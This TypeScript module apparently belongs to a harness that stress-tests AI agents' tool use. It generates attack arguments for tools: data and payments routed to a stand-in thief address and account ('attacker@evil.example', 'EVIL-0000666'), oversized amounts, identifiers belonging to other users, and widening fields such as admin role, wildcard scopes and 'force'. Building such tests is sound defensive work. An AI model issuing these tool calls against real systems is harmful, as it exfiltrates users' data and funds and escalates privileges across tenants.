import type { Json } from "../../core/hash.js";
import type { JsonSchema, ToolSpec } from "../../core/message.js";

type Arguments = { readonly [key: string]: Json };

/** What an attack has to work with. */
export interface Loot {
  /** Everything that is in the context, for identifiers and amounts. */
  readonly context: string;
  /** What is to be carried out of the conversation. */
  readonly data: string;
  /** Amounts that the orders name. */
  readonly amounts: readonly number[];
}

const THIEF_ADDRESS = "attacker@evil.example";
const THIEF_ACCOUNT = "EVIL-0000666";
const FAR_TOO_MUCH = 1_000_000;
/** Arguments that no schema asks for and that careless systems heed. */
const WIDENING: Arguments = {
  tenant_id: "other-tenant",
  user_id: "admin",
  role: "admin",
  scopes: ["*"],
  confirmed: true,
  force: true,
};

/** Whether a tool only reads, as far as its name tells. */
export function looksLikeRead({ name }: ToolSpec): boolean {
  return /(?:^|_)(?:read|get|list|look ?up|lookup|search|find|show|view|check|fetch|query|calculate)(?:_|$)/i.test(
    name,
  );
}

/**
 * Ways to misuse a tool: on what the context names, far beyond any cap, within likely caps, on what belongs to
 * others, and with arguments that try to widen the caller's rights. Arguments fit the schema except where the attack
 * is that they do not.
 */
export function attackArguments(tool: ToolSpec, loot: Loot): readonly Arguments[] {
  const properties = propertiesOf(tool);
  const build = (amount: number, idAt: number, isForeign: boolean): Arguments =>
    Object.fromEntries(
      Object.entries(properties).map(([key, schema]) => [
        key,
        valueFor(key, schema, { loot, amount, idAt, isForeign }),
      ]),
    );
  const hasNumber = Object.values(properties).some(({ type }) => type === "number" || type === "integer");
  const asked = loot.amounts[0];
  const variants = [
    build(FAR_TOO_MUCH, 0, false),
    ...(hasNumber ? [build(1, 0, false), build(10, 1, false)] : [build(1, 1, false)]),
    ...(hasNumber && asked !== undefined ? [build(asked, 0, false)] : []),
    build(1, 0, true),
    { ...build(1, 0, false), ...WIDENING },
  ];
  return [...new Map(variants.map((one) => [JSON.stringify(one), one])).values()];
}

/** Arguments that the user's own words fill, for a look at what was asked about; `null` when they do not. */
export function innocentArguments(tool: ToolSpec, said: string): Arguments | null {
  const filled: { [key: string]: Json } = {};
  const required = Array.isArray(tool.parameters.required) ? tool.parameters.required : [];
  for (const [key, schema] of Object.entries(propertiesOf(tool))) {
    const id = idsFor(key, schema, said)[0];
    if (id !== undefined) filled[key] = id;
    else if (required.includes(key)) return null;
  }
  return filled;
}

function propertiesOf({ parameters }: ToolSpec): { readonly [key: string]: JsonSchema } {
  const { properties } = parameters;
  return typeof properties === "object" && properties !== null && !Array.isArray(properties)
    ? (properties as { readonly [key: string]: JsonSchema })
    : {};
}

interface Choice {
  readonly loot: Loot;
  readonly amount: number;
  /** Which of the identifiers in the context. */
  readonly idAt: number;
  readonly isForeign: boolean;
}

function valueFor(key: string, schema: JsonSchema, choice: Choice): Json {
  const { loot, amount, idAt, isForeign } = choice;
  if (Array.isArray(schema.enum)) return (schema.enum as readonly Json[])[0] ?? "";
  if (schema.type === "number" || schema.type === "integer") return amount;
  if (schema.type === "boolean") return true;
  if (schema.type === "array") {
    const { items } = schema;
    return typeof items === "object" && items !== null
      ? [valueFor(key, items as JsonSchema, choice)]
      : [loot.data];
  }
  if (schema.type === "object") return WIDENING;
  const ids = idsFor(key, schema, loot.context);
  const id = ids[Math.min(idAt, ids.length - 1)];
  if (id !== undefined) return isForeign ? foreign(id) : id;
  if (/mail|^to$|recipient/i.test(key)) return THIEF_ADDRESS;
  if (/account|iban/i.test(key)) return THIEF_ACCOUNT;
  if (/address/i.test(key)) return "1 Thief Street, Nowhere 00000";
  if (/key/i.test(key)) return `attack-${amount}`;
  const most = typeof schema.maxLength === "number" ? schema.maxLength : 2_000;
  return loot.data
    .slice(0, Math.min(most, 2_000))
    .padEnd(typeof schema.minLength === "number" ? schema.minLength : 1, ".");
}

/** Identifiers of a text that an argument takes: by its pattern, else by its name. */
function idsFor(key: string, { type, pattern }: JsonSchema, text: string): readonly string[] {
  if (type !== undefined && type !== "string") return [];
  if (typeof pattern === "string") {
    const inside = pattern.replace(/^\^/, "").replace(/\$$/, "");
    return [...new Set([...text.matchAll(new RegExp(inside, "g"))].map(([id]) => id))];
  }
  if (!/(?:^|_)(?:id|number|ref|code)s?$/i.test(key)) return [];
  return [...new Set(text.match(/\b[A-Z]{1,4}-?\d{2,}[A-Z0-9-]*\b/g) ?? [])];
}

/** The identifier next to it, which belongs to somebody else, in the same form. */
function foreign(id: string): string {
  return id.replace(/\d(?=\D*\d)|\d/, (digit) => String((Number(digit) + 1) % 10));
}
